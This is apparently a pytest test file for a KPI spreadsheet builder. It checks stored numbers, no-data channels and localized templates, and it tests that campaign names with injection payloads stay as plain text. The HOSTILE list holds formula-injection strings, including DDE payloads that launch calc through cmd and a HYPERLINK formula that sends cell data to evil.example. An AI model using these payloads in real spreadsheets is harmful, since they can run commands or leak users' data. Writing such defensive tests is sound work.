"""What a reader sees without recalculating, hostile text, no-data states, languages."""

from __future__ import annotations

import math
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from kpi_xl.catalog import get, status_label
from kpi_xl.pipeline import build_plan, plan_model
from kpi_xl.plan.judgement import judged
from kpi_xl.plan.model import ALL
from kpi_xl.plan.placement import plan_layout
from kpi_xl.plan.spec import load_template

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "@SUM(1+1)",
]


def test_mail_preview_sees_the_python_numbers(
    demo_plan: Callable[..., Path], sample: pd.DataFrame
) -> None:
    """pandas + calamine read stored values only: they must be the model's numbers."""
    plan = demo_plan("ecommerce", "en")
    model = plan_model(sample, load_template("ecommerce"))
    sheet = pd.read_excel(plan, sheet_name=0, engine="calamine", header=None)
    ov = plan_layout(model).overview
    for kpi_id in model.spec.overall:
        kpi = get(kpi_id)
        row = sheet.iloc[ov.kpi_rows[kpi_id]]
        figures = judged(model, kpi_id, ALL).overview
        assert row[ov.col("kpi")] == kpi.name("en")
        assert math.isclose(float(row[ov.col("actual")]), figures.actual, rel_tol=1e-12), kpi_id
        target = model.target(kpi_id, ALL, model.current)
        assert math.isclose(float(row[ov.col("target")]), target, rel_tol=1e-12)
        assert row[ov.col("status")] == status_label(figures.status, "en")


def test_every_overview_kpi_cell_has_a_real_number(
    demo_plan: Callable[..., Path], sample: pd.DataFrame
) -> None:
    plan = demo_plan("ecommerce", "en")
    ov = plan_layout(plan_model(sample, load_template("ecommerce"))).overview
    ws = openpyxl.load_workbook(plan, data_only=True).worksheets[0]
    values = [ws.cell(row + 1, ov.col("actual") + 1).value for row in ov.kpi_rows.values()]
    assert all(isinstance(v, int | float) for v in values), values


def test_hostile_campaign_names_stay_text(sample: pd.DataFrame, tmp_path: Path) -> None:
    frame = sample[sample["channel"] == "paid_search"].copy()
    campaigns = sorted(frame["campaign"].unique())
    mapping = {c: HOSTILE[i % len(HOSTILE)] + f" #{i}" for i, c in enumerate(campaigns)}
    frame["campaign"] = frame["campaign"].map(mapping)
    out = build_plan(frame, tmp_path / "hostile.xlsx")
    with zipfile.ZipFile(out) as zf:
        xml = {n: zf.read(n).decode() for n in zf.namelist() if n.endswith(".xml")}
    formulas = [f for text in xml.values() for f in re.findall(r"<f>(.*?)</f>", text)]
    assert formulas
    for f in formulas:
        for bad in ("cmd|", "HYPERLINK", "SUM(1+1)", "evil.example"):
            assert bad not in f
    data = openpyxl.load_workbook(out)["Data"]
    header = next(r for r in data.iter_rows(max_row=5) if "campaign" in [c.value for c in r])
    column = [c.value for c in header].index("campaign") + 1
    cells = [
        c
        for row in data.iter_rows(min_row=header[0].row + 1, min_col=column, max_col=column)
        for c in row
    ]
    # XlsxWriter escapes control characters as Excel does (a CR is _x000D_, which Excel
    # shows as the CR); openpyxl leaves the escape as it is
    texts = {re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), c.value) for c in cells}
    for name in mapping.values():
        assert name in texts
    assert all(c.data_type == "s" for c in cells)


def test_channels_without_data_show_no_data_not_errors(
    sample: pd.DataFrame, tmp_path: Path
) -> None:
    only_seo = sample[sample["channel"] == "seo"].dropna(axis=1, how="all")
    out = build_plan(only_seo, tmp_path / "partial.xlsx")
    wb = openpyxl.load_workbook(out, data_only=True)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert not (isinstance(c.value, str) and c.value.startswith("#DIV")), c.coordinate
    email = wb.worksheets[5]
    assert email.title == "Email"
    numbers = [
        c.value
        for row in email.iter_rows(min_row=6, max_row=10, min_col=3)
        for c in row
        if isinstance(c.value, int | float)
    ]
    assert numbers == []


@pytest.mark.parametrize("lang", ["en", "fa", "he", "fi", "uz"])
@pytest.mark.parametrize("template", ["ecommerce", "leadgen", "content", "saas"])
def test_all_templates_build_in_all_languages(
    demo_plan: Callable[..., Path], template: str, lang: str
) -> None:
    plan = demo_plan(template, lang)
    wb = openpyxl.load_workbook(plan)
    rtl = lang in ("fa", "he")
    visible = [ws for ws in wb.worksheets if ws.sheet_state == "visible"]
    assert all(bool(ws.sheet_view.rightToLeft) == rtl for ws in visible)
    assert wb["_meta"].sheet_state == "veryHidden"
    assert wb.active.title == visible[0].title
    spec = load_template(template)
    # Overview, Targets, Data, Plan data, Definitions, Settings and one sheet per channel
    assert len(visible) == 6 + len(spec.channels)
    if lang != "en":
        assert wb.worksheets[0].title != "Overview"
